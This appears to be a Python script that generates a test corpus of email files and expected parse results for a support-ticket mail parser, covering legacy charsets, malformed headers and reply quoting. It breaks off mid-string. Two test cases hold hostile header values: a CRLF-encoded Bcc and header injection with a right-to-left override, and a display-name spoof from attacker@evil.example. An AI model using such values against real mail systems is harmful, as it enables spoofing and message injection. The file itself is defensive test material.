"""Writes the mail parser's corpus: NAME.eml and NAME.json (what parse() must find) per mail.

Run from the repository root after changing a mail here:
    .venv/bin/python amends/mail/tests/corpus/make_corpus.py
Every mail was written for Amends: people, shops, orders and addresses are invented. Mails are
built byte by byte (legacy charsets, broken MIME) rather than with email.generator, so they look
like what real clients send, mistakes included. A .eml added by hand needs a .json by hand.

Expected keys (test_parsing.py checks each one present): subject, from_address, from_name,
language, automatic (bool), bounce, bounced_message_id, bounced_recipients, attachments (cleaned
names in order), warnings (bool: any at all), warnings_contain, text (exact), text_contains,
text_excludes, full_text_contains, html_contains, html_excludes, message_id, in_reply_to,
references, return_path, to.
"""

# ruff: noqa: E501  (mail bodies are written out verbatim, long lines and all)

import base64
import binascii
import json
import pathlib
import quopri

HERE = pathlib.Path(__file__).parent
OURS = "support@amends.localhost"
SIG = "-- "  # the signature delimiter, trailing space included
MAILS: list[tuple[str, bytes, dict]] = []


def b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii")


def qp(data: bytes) -> str:
    return quopri.encodestring(data).decode("ascii")


def word(text: str, charset: str = "utf-8", encoding: str = "b") -> str:
    """One RFC 2047 encoded-word."""
    data = text.encode({"iso-8859-8-i": "iso-8859-8"}.get(charset, charset))
    if encoding == "b":
        return f"=?{charset}?B?{base64.b64encode(data).decode()}?="
    return f"=?{charset}?Q?{binascii.b2a_qp(data, header=True).decode()}?="


def mail(headers: str, body: bytes | str, *, crlf: bool = True, raw_headers: bytes = b"") -> bytes:
    """Header block (ASCII text, plus optional raw 8-bit lines) + blank line + body."""
    data = raw_headers + headers.strip("\n").encode("ascii") + b"\n\n"
    data += body.encode("utf-8") if isinstance(body, str) else body
    data = data.replace(b"\r\n", b"\n")
    return data.replace(b"\n", b"\r\n") if crlf else data


def add(name: str, category: str, raw: bytes, **expect) -> None:
    expect = {
        "category": category,
        "automatic": False,
        "bounce": False,
        "attachments": [],
        "warnings": False,
        **expect,
    }
    MAILS.append((name, raw, expect))


def visual(logical: str) -> str:
    """Hebrew in display order, as old iso-8859-8 mailers stored it: each right-to-left line
    reversed with its brackets mirrored and its digit/Latin runs kept left to right."""
    import re

    mirror = str.maketrans("()[]{}<>", ")(][}{><")

    def flip(text: str) -> str:
        return text[::-1].translate(mirror)

    lines = []
    for line in logical.split("\n"):
        tokens = line.split()
        hebrew = sum(1 for token in tokens if re.search("[א-ת]", token))
        if hebrew and hebrew >= sum(1 for token in tokens if re.match("[A-Za-z]", token)):
            line = re.sub(
                r"[A-Za-z0-9](?:[A-Za-z0-9.,:/@%+\-_#&=?']*(?:\s+(?=[A-Za-z0-9]))?)*",
                lambda m: flip(m.group(0)),
                flip(line),
            )
        else:
            line = re.sub(r"[א-ת](?:[^A-Za-z\n]*[א-ת])?", lambda m: flip(m.group(0)), line)
        lines.append(line)
    return "\n".join(lines)


# ---------------------------------------------------------------------------------------------
# Complaints in each charset

HE_COMPLAINT = """שלום רב,

הזמנתי מקרר במשלוח לפני שלושה שבועות (הזמנה מספר 45821) ועד היום הוא לא הגיע.
התקשרתי למוקד פעמיים ואף אחד לא חזר אליי.
אני מבקשת החזר כספי מלא או משלוח עד סוף השבוע.

בתודה,
דנה כהן
054-1234567"""
add(
    "he-utf8-qp-complaint",
    "charset",
    mail(
        f"""From: {word("דנה כהן")} <Dana.Cohen@Example.co.il>
To: Amends <{OURS}>
Subject: {word("המקרר לא הגיע - הזמנה 45821")}
Date: Sun, 2 Mar 2025 09:12:44 +0200
Message-ID: <CAF3x9q1-he-1@mail.example.co.il>
MIME-Version: 1.0
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable""",
        qp(HE_COMPLAINT.encode("utf-8")),
    ),
    subject="המקרר לא הגיע - הזמנה 45821",
    from_address="dana.cohen@example.co.il",
    from_name="דנה כהן",
    message_id="CAF3x9q1-he-1@mail.example.co.il",
    to=[OURS],
    language="he",
    text=HE_COMPLAINT,
)

HE_1255 = """שָׁלוֹם,

חויבתי פעמיים על אותה עסקה בכרטיס האשראי (סכום של 349.90 ₪).
אבקש לבטל את החיוב הכפול בהקדם.

יוסי לוי"""
add(
    "he-windows1255-8bit-complaint",
    "charset",
    mail(
        f"""From: {word("יוסי לוי", "windows-1255")} <yossi.levi@example.net.il>
To: {OURS}
Subject: {word("חיוב כפול בכרטיס אשראי", "windows-1255")}
Date: Mon, 3 Mar 2025 11:00:00 +0200
Message-ID: <000001db8c1e$1255@example.net.il>
MIME-Version: 1.0
Content-Type: text/plain; charset="windows-1255"
Content-Transfer-Encoding: 8bit""",
        HE_1255.encode("cp1255"),
    ),
    subject="חיוב כפול בכרטיס אשראי",
    from_address="yossi.levi@example.net.il",
    from_name="יוסי לוי",
    language="he",
    text=HE_1255,
)

HE_VISUAL_LOGICAL = """שלום,
המכשיר שקניתי בסניף תל אביב התקלקל אחרי יומיים.
מספר תעודת משלוח: 7731-22 (מצורפת קבלה).
Samsung Galaxy - אני מבקש החלפה.
תודה, משה"""
add(
    "he-iso8859-8-visual",
    "charset",
    mail(
        f"""From: Moshe Peretz <moshe@example.org.il>
To: {OURS}
Subject: {word(visual("מכשיר תקול"), "iso-8859-8", "q")}
Date: Tue, 4 Mar 1997 08:30:00 +0200
Message-ID: <199703040830.visual@example.org.il>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-8
Content-Transfer-Encoding: quoted-printable""",
        qp(visual(HE_VISUAL_LOGICAL).encode("iso-8859-8")),
    ),
    subject="מכשיר תקול",
    from_address="moshe@example.org.il",
    language="he",
    text=HE_VISUAL_LOGICAL,
)

HE_LOGICAL_I = """שלום,
החבילה הגיעה פתוחה וחסרים בה שני פריטים.
אבקש לשלוח אותם בהקדם.
רונית"""
add(
    "he-iso8859-8-i-logical",
    "charset",
    mail(
        f"""From: Ronit <ronit@example.co.il>
To: {OURS}
Subject: {word("חבילה פתוחה", "iso-8859-8-i")}
Date: Wed, 5 Mar 2025 14:02:10 +0200
Message-ID: <logical-i-1@example.co.il>
MIME-Version: 1.0
Content-Type: text/plain; charset="iso-8859-8-i"
Content-Transfer-Encoding: base64""",
        b64(HE_LOGICAL_I.encode("iso-8859-8")),
    ),
    subject="חבילה פתוחה",
    from_address="ronit@example.co.il",
    language="he",
    text=HE_LOGICAL_I,
)

HE_MISLABELLED = """שלום,
הטכנאי לא הגיע לפגישה שנקבעה ליום חמישי.
חיכיתי בבית כל היום.
אורי"""
add(
    "he-iso8859-8-label-but-logical",
    "charset",
    mail(
        f"""From: Ori <ori@example.co.il>
To: {OURS}
Subject: technician did not come
Date: Wed, 5 Mar 2025 16:40:00 +0200
Message-ID: <mislabel-logical@example.co.il>
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-8
Content-Transfer-Encoding: 8bit""",
        HE_MISLABELLED.encode("iso-8859-8"),
    ),
    subject="technician did not come",
    from_address="ori@example.co.il",
    language="he",
    text=HE_MISLABELLED,
    warnings=True,
    warnings_contain=["already in logical order"],
)

AR_1256 = """السلام عليكم،

اشتريت غسالة من متجركم في الرياض بتاريخ 12/02/2025، وتوقفت عن العمل بعد أسبوع واحد فقط.
رقم الطلب: 88314
أرجو إرسال فني لإصلاحها أو استبدالها في أقرب وقت.

مع الشكر،
عمر حداد"""
add(
    "ar-windows1256-complaint",
    "charset",
    mail(
        f"""From: {word("عمر حداد", "windows-1256")} <omar.haddad@example.sa>
To: {OURS}
Subject: {word("غسالة معطلة - طلب 88314", "windows-1256", "q")}
Date: Thu, 6 Mar 2025 10:05:00 +0300
Message-ID: <ar-1256-1@example.sa>
MIME-Version: 1.0
Content-Type: text/plain; charset=windows-1256
Content-Transfer-Encoding: quoted-printable""",
        qp(AR_1256.encode("cp1256")),
    ),
    subject="غسالة معطلة - طلب 88314",
    from_address="omar.haddad@example.sa",
    from_name="عمر حداد",
    language="ar",
    text=AR_1256,
)

AR_8859_6 = """مرحبا،
لقد تأخر وصول طلبي رقم 55120 أكثر من شهر.
أريد معرفة سبب التأخير؟
شكرا
ليلى"""
add(
    "ar-iso8859-6-complaint",
    "charset",
    mail(
        f"""From: Layla <layla@example.ae>
To: {OURS}
Subject: {word("تأخير الطلب", "iso-8859-6")}
Date: Thu, 6 Mar 2025 12:00:00 +0400
Message-ID: <ar-88596-1@example.ae>
MIME-Version: 1.0
Content-Type: text/plain; charset="ISO-8859-6"
Content-Transfer-Encoding: 8bit""",
        AR_8859_6.encode("iso-8859-6"),
    ),
    subject="تأخير الطلب",
    from_address="layla@example.ae",
    language="ar",
    text=AR_8859_6,
)

RU_KOI8 = """Здравствуйте!

Я оплатил заказ 30417 две недели назад, но посылка так и не пришла.
Трек-номер не отслеживается, а в поддержке не отвечают.
Прошу вернуть деньги.

С уважением,
Иван Петров"""
add(
    "ru-koi8r-complaint",
    "charset",
    mail(
        f"""From: {word("Иван Петров", "koi8-r")} <ivan.petrov@example.ru>
To: {OURS}
Subject: {word("Посылка не пришла", "koi8-r")}
Date: Fri, 7 Mar 2025 09:00:00 +0300
Message-ID: <koi8-1@example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset=koi8-r
Content-Transfer-Encoding: 8bit""",
        RU_KOI8.encode("koi8-r"),
    ),
    subject="Посылка не пришла",
    from_address="ivan.petrov@example.ru",
    from_name="Иван Петров",
    language="ru",
    text=RU_KOI8,
)

RU_1251 = """Добрый день.
Курьер повредил коробку при доставке, телевизор разбит.
Фото прилагаю. Заказ № 77120.
Жду замены."""
add(
    "ru-windows1251-complaint",
    "charset",
    mail(
        f"""From: {word("Светлана", "windows-1251", "q")} <sveta@example.ru>
To: {OURS}
Subject: {word("Разбитый телевизор", "windows-1251")}
Date: Fri, 7 Mar 2025 13:20:00 +0300
Message-ID: <cp1251-1@example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset="windows-1251"
Content-Transfer-Encoding: quoted-printable""",
        qp(RU_1251.encode("cp1251")),
    ),
    subject="Разбитый телевизор",
    from_address="sveta@example.ru",
    from_name="Светлана",
    language="ru",
    text=RU_1251,
)

RU_866 = """Здравствуйте,
мой счёт за март выставлен дважды.
Прошу исправить.
Ольга"""
add(
    "ru-cp866-complaint",
    "charset",
    mail(
        f"""From: Olga <olga@example.ru>
To: {OURS}
Subject: {word("Двойной счёт", "cp866")}
Date: Sat, 8 Mar 2025 10:00:00 +0300
Message-ID: <cp866-1@example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset=cp866
Content-Transfer-Encoding: 8bit""",
        RU_866.encode("cp866"),
    ),
    subject="Двойной счёт",
    from_address="olga@example.ru",
    language="ru",
    text=RU_866,
)

EN_PLAIN = """Hello,

I returned the jacket (order #A-2231) on 2 February and still have not received my refund of $89.00.
Please look into this.

Thanks,
Mark Ellis"""
add(
    "en-ascii-complaint",
    "charset",
    mail(
        f"""From: Mark Ellis <mark.ellis@example.com>
To: Amends Support <{OURS}>
Subject: Refund not received for order #A-2231
Date: Mon, 10 Mar 2025 08:00:00 -0500
Message-ID: <en-ascii-1@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit""",
        EN_PLAIN,
    ),
    subject="Refund not received for order #A-2231",
    from_address="mark.ellis@example.com",
    from_name="Mark Ellis",
    language="en",
    text=EN_PLAIN,
)

HE_UTF16 = """שלום,
קיבלתי חשבונית על שירות שביטלתי לפני חודשיים.
נא לבטל את החשבונית.
מיכל"""
add(
    "he-utf16-bom",
    "charset",
    mail(
        f"""From: Michal <michal@example.co.il>
To: {OURS}
Subject: {word("חשבונית שגויה", "utf-16")}
Date: Mon, 10 Mar 2025 10:00:00 +0200
Message-ID: <utf16-bom@example.co.il>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-16
Content-Transfer-Encoding: base64""",
        b64(HE_UTF16.replace("\n", "\r\n").encode("utf-16")),
    ),
    subject="חשבונית שגויה",
    from_address="michal@example.co.il",
    language="he",
    text=HE_UTF16,
)

AR_UTF16 = """مساء الخير،
الموظف في الفرع كان غير مهذب معي.
أطلب الاعتذار.
خالد"""
add(
    "ar-utf16le-no-bom",
    "charset",
    mail(
        f"""From: Khaled <khaled@example.jo>
To: {OURS}
Subject: complaint about staff
Date: Mon, 10 Mar 2025 11:00:00 +0300
Message-ID: <utf16-le@example.jo>
MIME-Version: 1.0
Content-Type: text/plain; charset="UTF-16"
Content-Transfer-Encoding: base64""",
        b64(AR_UTF16.replace("\n", "\r\n").encode("utf-16-le")),
    ),
    subject="complaint about staff",
    from_address="khaled@example.jo",
    language="ar",
    text=AR_UTF16,
)

RU_UTF16BE = """Добрый вечер.
Приложение списывает деньги без подтверждения.
Верните, пожалуйста, 990 рублей."""
add(
    "ru-utf16be-no-bom",
    "charset",
    mail(
        f"""From: Pavel <pavel@example.ru>
To: {OURS}
Subject: {word("Списание без подтверждения", "utf-16be")}
Date: Mon, 10 Mar 2025 19:00:00 +0300
Message-ID: <utf16-be@example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-16
Content-Transfer-Encoding: base64""",
        b64(RU_UTF16BE.replace("\n", "\r\n").encode("utf-16-be")),
    ),
    subject="Списание без подтверждения",
    from_address="pavel@example.ru",
    language="ru",
    text=RU_UTF16BE,
)

HE_AS_LATIN1 = """שלום,
השליח השאיר את החבילה בגשם והיא נהרסה.
אבקש פיצוי.
נועה"""
add(
    "he-windows1255-labelled-latin1",
    "charset",
    mail(
        f"""From: Noa <noa@example.co.il>
To: {OURS}
Subject: wet parcel
Date: Tue, 11 Mar 2025 09:00:00 +0200
Message-ID: <latin1-label@example.co.il>
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: 8bit""",
        HE_AS_LATIN1.encode("cp1255"),
    ),
    subject="wet parcel",
    from_address="noa@example.co.il",
    language="he",
    text=HE_AS_LATIN1,
    warnings=True,
    warnings_contain=["reads as windows-1255"],
)

RU_UNKNOWN = """Здравствуйте.
Оператор обещал перезвонить и не перезвонил.
Андрей"""
add(
    "ru-windows1251-labelled-x-unknown",
    "charset",
    mail(
        f"""From: Andrey <andrey@example.ru>
To: {OURS}
Subject: =?x-unknown?B?{base64.b64encode("Не перезвонили".encode("cp1251")).decode()}?=
Date: Tue, 11 Mar 2025 10:00:00 +0300
Message-ID: <x-unknown@example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset="x-unknown"
Content-Transfer-Encoding: 8bit""",
        RU_UNKNOWN.encode("cp1251"),
    ),
    subject="Не перезвонили",
    from_address="andrey@example.ru",
    language="ru",
    text=RU_UNKNOWN,
    warnings=True,
    warnings_contain=["unknown charset 'x-unknown'"],
)

HE_LABEL_HEBREW = """שלום,
ההחזר שהובטח לי עדיין לא התקבל בחשבון.
עמית"""
add(
    "he-label-hebrew-alias",
    "charset",
    mail(
        f"""From: Amit <amit@example.co.il>
To: {OURS}
Subject: refund
Date: Tue, 11 Mar 2025 12:00:00 +0200
Message-ID: <label-hebrew@example.co.il>
MIME-Version: 1.0
Content-Type: text/plain; charset=hebrew
Content-Transfer-Encoding: 8bit""",
        HE_LABEL_HEBREW.encode("cp1255"),
    ),
    subject="refund",
    from_address="amit@example.co.il",
    language="he",
    text=HE_LABEL_HEBREW,
    warnings=True,
    warnings_contain=["charset label 'hebrew'"],
)

AR_NO_CHARSET = """مرحبا،
لم يتم تفعيل الخط حتى الآن رغم الدفع.
يوسف"""
add(
    "ar-windows1256-no-charset",
    "charset",
    mail(
        f"""From: Yousef <yousef@example.eg>
To: {OURS}
Subject: line not activated
Date: Tue, 11 Mar 2025 13:00:00 +0200
Message-ID: <no-charset@example.eg>
MIME-Version: 1.0
Content-Type: text/plain
Content-Transfer-Encoding: 8bit""",
        AR_NO_CHARSET.encode("cp1256"),
    ),
    subject="line not activated",
    from_address="yousef@example.eg",
    language="ar",
    text=AR_NO_CHARSET,
    warnings=True,
    warnings_contain=["no charset given, read as windows-1256"],
)

RU_UTF8_AS_1251 = """Добрый день!
Пришёл не тот размер обуви, прошу обменять."""
add(
    "ru-utf8-labelled-windows1251",
    "charset",
    mail(
        f"""From: Natalia <natalia@example.ru>
To: {OURS}
Subject: exchange
Date: Tue, 11 Mar 2025 15:00:00 +0300
Message-ID: <utf8-as-1251@example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset=windows-1251
Content-Transfer-Encoding: 8bit""",
        RU_UTF8_AS_1251.encode("utf-8"),
    ),
    subject="exchange",
    from_address="natalia@example.ru",
    language="ru",
    text=RU_UTF8_AS_1251,
    warnings=True,
    warnings_contain=["labelled windows-1251 but is UTF-8"],
)

EN_UTF8_AS_ASCII = "Hi — the “express” delivery took 9 days. Café order #77 was cold too."
add(
    "en-utf8-labelled-ascii",
    "charset",
    mail(
        f"""From: Claire <claire@example.fr>
To: {OURS}
Subject: slow delivery
Date: Tue, 11 Mar 2025 16:00:00 +0100
Message-ID: <utf8-as-ascii@example.fr>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 8bit""",
        EN_UTF8_AS_ASCII.encode("utf-8"),
    ),
    subject="slow delivery",
    from_address="claire@example.fr",
    language="en",
    text=EN_UTF8_AS_ASCII,
    warnings=True,
)

add(
    "he-raw-8bit-subject",
    "headers",
    mail(
        f"""To: {OURS}
Date: Tue, 11 Mar 2025 17:00:00 +0200
Message-ID: <raw-subject@example.co.il>
MIME-Version: 1.0
Content-Type: text/plain; charset=windows-1255
Content-Transfer-Encoding: 8bit""",
        "המזגן רועש מאוד מאז ההתקנה.\nגיל".encode("cp1255"),
        raw_headers="Subject: מזגן רועש\nFrom: גיל <gil@example.co.il>\n".encode("cp1255"),
    ),
    subject="מזגן רועש",
    from_address="gil@example.co.il",
    from_name="גיל",
    language="he",
    text="המזגן רועש מאוד מאז ההתקנה.\nגיל",
    warnings=True,
    warnings_contain=["raw 8-bit text read as windows-1255"],
)

# ---------------------------------------------------------------------------------------------
# Header fields

add(
    "headers-rfc2047-mixed-charsets",
    "headers",
    mail(
        f"""From: {word("سارة", "windows-1256", "q")} {word("الأحمد", "utf-8")} <sara@example.com>
To: {OURS}
Subject: {word("Жалоба:", "koi8-r")} {word(" שירות", "utf-8", "q")} and {word("خدمة", "iso-8859-6")}
 (case)
Date: Wed, 12 Mar 2025 09:00:00 +0000
Message-ID: <mixed@example.com>
Content-Type: text/plain; charset=utf-8

Service complaint in three scripts.""",
        "",
    ),
    subject="Жалоба: שירות and خدمة (case)",
    from_address="sara@example.com",
    from_name="سارةالأحمد",  # whitespace between encoded-words is dropped (RFC 2047 6.2)
    language="en",
    text="Service complaint in three scripts.",
)

add(
    "headers-rfc2047-broken",
    "headers",
    mail(
        """From: =?utf-8?B?QnJva2Vu?= =?x-unknown?Q?Name=E9?= <broken@example.com>
To: support@amends.localhost
Subject: =?utf-8?B?15TXlteT15XXnw?= =?utf-8?Q?caf=C3=A9?= =?utf-8?B?not base64!?= =?utf-8?q?unterminated
Date: Wed, 12 Mar 2025 09:30:00 +0000
Message-ID: <broken-words@example.com>
Content-Type: text/plain; charset=utf-8

Subject and From have damaged encoded-words.""",
        "",
    ),
    from_address="broken@example.com",
    language="en",
    text="Subject and From have damaged encoded-words.",
    warnings=True,
)

HEBREW_SPLIT = "הכסף לא הוחזר".encode()
add(
    "headers-rfc2047-split-character",
    "headers",
    mail(
        f"""From: Tal <tal@example.co.il>
To: {OURS}
Subject: =?UTF-8?B?{base64.b64encode(HEBREW_SPLIT[:5]).decode()}?=
 =?UTF-8?B?{base64.b64encode(HEBREW_SPLIT[5:]).decode()}?=
Date: Wed, 12 Mar 2025 10:00:00 +0200
Message-ID: <split-char@example.co.il>
Content-Type: text/plain; charset=utf-8""",
        "הכסף עדיין לא הוחזר לכרטיס.".encode(),
    ),
    subject="הכסף לא הוחזר",
    from_address="tal@example.co.il",
    language="he",
    text="הכסף עדיין לא הוחזר לכרטיס.",
)

add(
    "headers-injection-attempt",
    "headers",
    mail(
        """From: =?utf-8?Q?Eve=0D=0ABcc:_victim@example.com?= <eve@example.com>
To: support@amends.localhost
Subject: =?utf-8?Q?Refund=0D=0ABcc:_victim@example.com=0AX-Amends-Case:_1?= =?utf-8?B?4oCuZ25pbGxpYg==?=
X-Amends-Case: 9999
Date: Wed, 12 Mar 2025 11:00:00 +0000
Message-ID: <injection@example.com>
Content-Type: text/plain; charset=utf-8

Please refund me.""",
        "",
    ),
    subject="Refund Bcc: victim@example.com X-Amends-Case: 1gnillib",
    from_address="eve@example.com",
    from_name="Eve Bcc: victim@example.com",
    language="en",
    text="Please refund me.",
)

add(
    "headers-message-ids-junk",
    "headers",
    mail(
        """From: Dan <dan@example.com>
To: support@amends.localhost
Subject: Re: [#1042] your complaint
Message-ID:   < CAK-dan-2@mail.example.com >
In-Reply-To: Your message of Mon, 3 Mar 2025 10:15:00 +0200
 <case-1042.msg-3@amends.localhost> (Amends Support) <case-1042.msg-3@amends.localhost>
References: <case-1042.msg-1@amends.localhost>
 <case-1042.msg-2@amends.localhost>	<case-1042.msg-1@amends.localhost>
  junk-without-brackets <case-1042.msg-3@amends.localhost>
Date: Wed, 12 Mar 2025 12:00:00 +0000
Content-Type: text/plain; charset=utf-8

Still waiting.""",
        "",
    ),
    subject="Re: [#1042] your complaint",
    from_address="dan@example.com",
    message_id="CAK-dan-2@mail.example.com",
    in_reply_to=["case-1042.msg-3@amends.localhost"],
    references=[
        "case-1042.msg-1@amends.localhost",
        "case-1042.msg-2@amends.localhost",
        "case-1042.msg-3@amends.localhost",
    ],
    language="en",
    text="Still waiting.",
)

add(
    "headers-no-from",
    "headers",
    mail(
        """To: support@amends.localhost
Subject: no sender
Date: Wed, 12 Mar 2025 13:00:00 +0000
Message-ID: <no-from@example.com>

Who am I?""",
        "",
    ),
    subject="no sender",
    from_address="",
    language="en",
    text="Who am I?",
    warnings=True,
    warnings_contain=["no From header"],
)

add(
    "headers-duplicated",
    "headers",
    mail(
        """From: First Sender <first@example.com>
From: Second Sender <second@example.com>
To: support@amends.localhost
Subject: the first subject
Subject: the second subject
Message-ID: <dup-1@example.com>
Message-ID: <dup-2@example.com>
Date: Wed, 12 Mar 2025 14:00:00 +0000

Two of everything.""",
        "",
    ),
    subject="the first subject",
    from_address="first@example.com",
    message_id="dup-1@example.com",
    language="en",
    text="Two of everything.",
    warnings=True,
)

add(
    "headers-from-display-name-spoof",
    "headers",
    mail(
        """From: "support@amends.localhost" <attacker@evil.example>
Reply-To: Attacker <attacker@evil.example>
To: support@amends.localhost
Subject: Re: [#1042] reopen please
Message-ID: <spoof@evil.example>
Date: Wed, 12 Mar 2025 15:00:00 +0000
Content-Type: text/plain; charset=utf-8

Reopen my case.""",
        "",
    ),
    subject="Re: [#1042] reopen please",
    from_address="attacker@evil.example",
    from_name="support@amends.localhost",
    language="en",
    text="Reopen my case.",
)

# ---------------------------------------------------------------------------------------------
# Replies with quoted history, per client and language

EN_QUOTE = """> Thank you for contacting Amends support.
> Your case number is [#1042]. We will answer within two working days.
>
> Amends Support"""

add(
    "en-gmail-reply",
    "reply",
    mail(
        f"""From: Dana Levi <dana.levi@example.com>
To: Amends Support <{OURS}>
Subject: Re: [#1042] We received your complaint
In-Reply-To: <case-1042.msg-1@amends.localhost>
References: <case-1042.msg-1@amends.localhost>
Message-ID: <CAGmail-en-1@mail.gmail.example>
Date: Tue, 4 Mar 2025 09:00:00 +0200
Content-Type: text/plain; charset="UTF-8\"""",
        f"""Two working days have passed and nobody called me.

{SIG}
Dana Levi
+972-54-000-0000

On Mon, 3 Mar 2025 at 10:15, Amends Support <{OURS}> wrote:

{EN_QUOTE}
""",
    ),
    subject="Re: [#1042] We received your complaint",
    from_address="dana.levi@example.com",
    in_reply_to=["case-1042.msg-1@amends.localhost"],
    language="en",
    text="Two working days have passed and nobody called me.",
    full_text_contains=["Your case number is [#1042]", "Dana Levi"],
)

add(
    "en-gmail-wrapped-attribution",
    "reply",
    mail(
        f"""From: Peter Novak <peter.novak@example.com>
To: {OURS}
Subject: Re: [#1043] delivery
Message-ID: <CAGmail-en-2@mail.gmail.example>
Date: Tue, 4 Mar 2025 10:00:00 +0000
Content-Type: text/plain; charset=UTF-8""",
        f"""The courier came but left without the old fridge.

On Mon, Mar 3, 2025 at 10:15 AM Amends Customer Support Team <
{OURS}> wrote:

> Your delivery is booked for Tuesday.
""",
    ),
    subject="Re: [#1043] delivery",
    from_address="peter.novak@example.com",
    language="en",
    text="The courier came but left without the old fridge.",
)

add(
    "en-outlook-original-message",
    "reply",
    mail(
        f"""From: "Grant, Lucy" <lucy.grant@example.co.uk>
To: {OURS}
Subject: RE: [#1044] Your complaint
Message-ID: <DB9PR01-en-outlook@example.co.uk>
Date: Tue, 4 Mar 2025 11:00:00 +0000
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit""",
        f"""The replacement kettle leaks as well. I want my money back.

Lucy Grant
Head of Facilities

-----Original Message-----
From: Amends Support <{OURS}>
Sent: Monday, March 3, 2025 10:15 AM
To: Grant, Lucy <lucy.grant@example.co.uk>
Subject: [#1044] Your complaint

We have sent you a replacement kettle.
""",
    ),
    subject="RE: [#1044] Your complaint",
    from_address="lucy.grant@example.co.uk",
    from_name="Grant, Lucy",
    language="en",
    text="The replacement kettle leaks as well. I want my money back.\n\nLucy Grant\nHead of Facilities",
    text_excludes=["replacement kettle."],
)

add(
    "en-outlook-web-underscore",
    "reply",
    mail(
        f"""From: Sam Brown <sam.brown@example.com>
To: {OURS}
Subject: RE: [#1045] refund
Message-ID: <owa-en@example.com>
Date: Tue, 4 Mar 2025 12:00:00 +0000
Content-Type: text/plain; charset=utf-8""",
        f"""Refund still not in my account.

________________________________
From: Amends Support <{OURS}>
Sent: 03 March 2025 10:15
To: Sam Brown <sam.brown@example.com>
Subject: [#1045] refund

Your refund was issued today.
""",
    ),
    subject="RE: [#1045] refund",
    from_address="sam.brown@example.com",
    language="en",
    text="Refund still not in my account.",
)

add(
    "en-apple-mail-iphone",
    "reply",
    mail(
        f"""From: Rachel Adams <rachel@example.com>
To: {OURS}
Subject: Re: [#1046] booking
Message-ID: <apple-en@example.com>
Date: Tue, 4 Mar 2025 13:00:00 +0000
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit""",
        f"""No, the booking was for the 14th, not the 4th.

Sent from my iPhone

> On 3 Mar 2025, at 10:15, Amends Support <{OURS}> wrote:
>
> We moved your booking to 4 March.
""",
    ),
    subject="Re: [#1046] booking",
    from_address="rachel@example.com",
    language="en",
    text="No, the booking was for the 14th, not the 4th.",
)

add(
    "en-thunderbird-bottom-post",
    "reply",
    mail(
        f"""From: Hugo Martin <hugo@example.com>
To: {OURS}
Subject: Re: [#1047] warranty
Message-ID: <tb-en@example.com>
Date: Tue, 4 Mar 2025 14:00:00 +0000
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit""",
        """On 03/03/2025 10:15, Amends Support wrote:
> Is the serial number on the back of the unit?

Yes, it is on the back: SN-4471-XZ. The warranty card was in the box
too.
""".replace("box\n", "box \n"),  # a soft (flowed) line break
    ),
    subject="Re: [#1047] warranty",
    from_address="hugo@example.com",
    language="en",
    text="Yes, it is on the back: SN-4471-XZ. The warranty card was in the box too.",
)

add(
    "en-interleaved-answers",
    "reply",
    mail(
        f"""From: Ada Park <ada@example.com>
To: {OURS}
Subject: Re: [#1048] questions
Message-ID: <inline-en@example.com>
Date: Tue, 4 Mar 2025 15:00:00 +0000
Content-Type: text/plain; charset=utf-8""",
        """> When did you buy the phone?

In January, at the Haifa branch.

> Do you still have the receipt?

Yes, attached.

> Kind regards, Amends
""",
    ),
    subject="Re: [#1048] questions",
    from_address="ada@example.com",
    language="en",
    text="In January, at the Haifa branch.\n\n> Do you still have the receipt?\n\nYes, attached.",
)

add(
    "en-reply-with-nothing-new",
    "reply",
    mail(
        f"""From: Ben Cole <ben@example.com>
To: {OURS}
Subject: Re: [#1049] closed
Message-ID: <nothing-new@example.com>
Date: Tue, 4 Mar 2025 16:00:00 +0000
Content-Type: text/plain; charset=utf-8""",
        f"""On Mon, 3 Mar 2025 at 10:15, Amends Support <{OURS}> wrote:
> Your case is closed.
""",
    ),
    subject="Re: [#1049] closed",
    from_address="ben@example.com",
    language="en",
    text="On Mon, 3 Mar 2025 at 10:15, Amends Support <support@amends.localhost> wrote:\n> Your case is closed.",
)

HE_QUOTE = """> תודה שפנית אלינו. מספר הפנייה שלך הוא [#2001].
> נחזור אליך תוך שני ימי עבודה."""
add(
    "he-gmail-reply",
    "reply",
    mail(
        f"""From: {word("דנה לוי")} <dana@example.co.il>
To: {OURS}
Subject: {word("Re: [#2001] קיבלנו את פנייתך")}
In-Reply-To: <case-2001.msg-1@amends.localhost>
Message-ID: <CAGmail-he@mail.gmail.example>
Date: Tue, 4 Mar 2025 09:00:00 +0200
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: base64""",
        b64(
            f"""עברו שלושה ימים ועדיין אין תשובה.

בתאריך יום ב׳, 3 במרץ 2025 ב-10:15 מאת Amends Support <\u202a{OURS}\u202c>:

{HE_QUOTE}
""".encode()
        ),
    ),
    subject="Re: [#2001] קיבלנו את פנייתך",
    from_address="dana@example.co.il",
    language="he",
    text="עברו שלושה ימים ועדיין אין תשובה.",
)

add(
    "he-outlook-header-block-windows1255",
    "reply",
    mail(
        f"""From: {word("אבי מזרחי", "windows-1255")} <avi@example.co.il>
To: {OURS}
Subject: {word("RE: [#2002] פנייתך התקבלה", "windows-1255")}
Message-ID: <outlook-he@example.co.il>
Date: Tue, 4 Mar 2025 10:00:00 +0200
Content-Type: text/plain; charset="windows-1255"
Content-Transfer-Encoding: quoted-printable""",
        qp(
            f"""\u200fהמוצר החלופי הגיע שבור גם הוא.
אני דורש החזר מלא.

